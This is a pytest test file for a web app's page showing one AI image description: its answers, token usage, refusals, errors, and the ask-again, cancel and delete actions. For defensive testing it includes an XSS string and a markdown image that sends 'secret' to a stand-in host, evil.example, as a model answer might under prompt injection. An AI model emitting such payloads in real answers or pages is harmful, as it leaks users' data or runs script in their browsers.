"""The page of one description: what it says in each state, what can be done with it, and by whom."""

import pytest

from describer.models import Attempt, Choice, Description, Status, UsageDay
from tests.web.forms import text_of
from tests.web.rows import make_attempt, make_description, make_image

pytestmark = pytest.mark.usefixtures("sandbox")
INERT = "<script>alert(1)</script>"
ROUTES = ("", "words/", "card/", "again/", "cancel/", "delete/", "sent/0/")


def page(client, row):
    response = client.get(f"/descriptions/{row.pk}/")
    assert response.status_code == 200
    return response


def post(client, row, what, **fields):
    return client.post(f"/descriptions/{row.pk}/{what}/", fields)


def test_it_shows_question_answer_and_usage(hers, alice):
    row = make_description(alice, "Two wooden boats.", question="What is there?")
    words = text_of(page(hers, row))
    for expected in ("What is there?", "Two wooden boats.", "1,284 tokens", "vision-1", "billed"):
        assert expected in words


def test_it_shows_what_the_model_saw(hers, alice):
    row = make_description(alice, "Boats.")
    response = page(hers, row)
    assert "What the model saw: 2000 × 1500, " in " ".join(text_of(response).split())
    assert f"/descriptions/{row.pk}/sent/0/" in response.content.decode()


def test_several_answers_are_tabs_that_need_no_script(hers, alice):
    html = page(hers, make_description(alice, "One.", "Two.", parameters={"n": 3})).content.decode()
    assert html.count('type="radio"') == 2
    assert "Asked for 3 answers, got 2." in html


@pytest.mark.parametrize(
    ("choice", "says"),
    [
        ({"content": "Half", "finish_reason": "length"}, "Ask again with more room"),
        ({"content": None, "refusal": "I may not."}, "I may not."),
        ({"content": "Some", "finish_reason": "content_filter"}, "filter"),
        ({"content": None, "tool_calls": [{"function": {"name": "look", "arguments": "{}"}}]}, "look"),
        ({"content": "Yes.", "reasoning": "Hm, let me see."}, "Hm, let me see."),
    ],
)
def test_odd_answers_are_said_in_words(hers, alice, choice, says):
    assert says in text_of(page(hers, make_description(alice, choice)))


def test_an_estimate_is_never_shown_as_a_count(hers, alice):
    estimate = {"prompt_tokens": 900, "completion_tokens": 40, "total_tokens": 940}
    silent = {"prompt_tokens": None, "completion_tokens": None, "total_tokens": None}
    row = make_description(alice, "Boats.", attempt=silent | {"estimated_usage": estimate})
    assert "about 940 tokens (not reported)" in text_of(page(hers, row))


def test_p04_a_call_that_may_have_been_billed_is_said_to_be_so(hers, alice):
    row = make_description(alice, "Boats.")
    make_attempt(row, state=Attempt.State.UNKNOWN, billed="unknown")
    assert "may have been billed" in text_of(page(hers, row))


def test_a_changed_parameter_is_said(hers, alice):
    change = {"kind": "dropped", "param": "temperature", "to": ""}
    row = make_description(alice, "Boats.", attempt={"changed": [change]}, parameters={"temperature": 1})
    assert "without temperature: this model refuses it" in text_of(page(hers, row))


def test_failed_and_waiting_say_why(hers, alice):
    failed = make_description(
        alice, status="failed", error_code="bad_key", error_message="The key was refused."
    )
    waiting = make_description(alice, status="waiting", waiting_reason="Next try at 14:05:20.")
    assert "The key was refused." in text_of(page(hers, failed))
    assert "Next try at 14:05:20." in text_of(page(hers, waiting))


def test_p23_a_picture_that_is_gone_is_said_to_be_so(hers, alice):
    row = make_description(alice, "Boats.", pictures=[(make_image(alice, files=False), "boat.jpg")])
    assert "gone from the site" in text_of(page(hers, row))


def test_x20_scripts_in_question_name_and_answer_are_text(hers, alice):
    row = make_description(alice, INERT, question=INERT, pictures=[(make_image(alice), INERT)], model=INERT)
    html = page(hers, row).content.decode()
    assert INERT not in html
    assert "&lt;script&gt;" in html


def test_x21_a_picture_in_an_answer_is_a_link_with_its_host(hers, alice):
    html = page(hers, make_description(alice, "![](https://evil.example/?q=secret)")).content.decode()
    assert '<img src="https://evil' not in html
    assert "evil.example" in html


def test_ask_again_makes_one_new_ask_for_one_token(hers, alice):
    row = make_description(alice, "Boats.", model="sandbox", question="Again?")
    first, second = (post(hers, row, "again", token="t") for _ in range(2))
    assert first["Location"] == second["Location"]
    born = Description.objects.exclude(pk=row.pk).get()
    assert (born.question, born.images.get().name) == ("Again?", "boat.jpg")


def test_i9_more_room_doubles_the_tokens(hers, alice):
    cut = {"content": "Half", "finish_reason": "length"}
    row = make_description(alice, cut, model="sandbox", parameters={"max_tokens": 300})
    post(hers, row, "again", token="t", room="more")
    assert Description.objects.exclude(pk=row.pk).get().parameters == {"max_tokens": 600}


def test_cancel_stops_what_is_not_at_its_end(hers, alice):
    row = make_description(alice)
    assert post(hers, row, "cancel").status_code == 302
    row.refresh_from_db()
    assert row.status == Status.CANCELLED


def test_x34_delete_takes_the_words_and_the_ledger_keeps_its_numbers(hers, alice):
    row = make_description(alice, "Boats.")
    day = UsageDay.objects.get()
    assert post(hers, row, "delete")["Location"].startswith("/history/")
    assert not Description.objects.exists()
    assert not Choice.objects.exists()
    assert Attempt.objects.get().total_tokens == 1284
    assert UsageDay.objects.get() == day


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("method", ["get", "post", "put", "delete"])
def test_x4_a_stranger_meets_404_whatever_the_method(his, alice, route, method):
    row = make_description(alice, "Boats.")
    response = getattr(his, method)(f"/descriptions/{row.pk}/{route}")
    never = getattr(his, method)(f"/descriptions/{row.pk + 999}/{route}")
    assert response.status_code == never.status_code == 404
    assert Description.objects.get().status == Status.DONE


@pytest.mark.parametrize("route", ["again/", "cancel/", "delete/"])
def test_get_changes_nothing(hers, alice, route):
    row = make_description(alice)
    assert hers.get(f"/descriptions/{row.pk}/{route}").status_code == 405
    assert Description.objects.get().status == Status.QUEUED


def test_an_admin_sees_it_and_whose_it_is(bosses, alice):
    assert "asked by alice" in " ".join(text_of(page(bosses, make_description(alice, "Boats."))).split())


def test_next_and_previous_follow_the_list_that_led_here(hers, alice):
    rows = [make_description(alice, "Boats.", model=model) for model in ("a", "b", "a")]
    html = hers.get(f"/descriptions/{rows[2].pk}/?from=model%3Da").content.decode()
    assert f"/descriptions/{rows[0].pk}/" in html
    assert f"/descriptions/{rows[1].pk}/" not in html
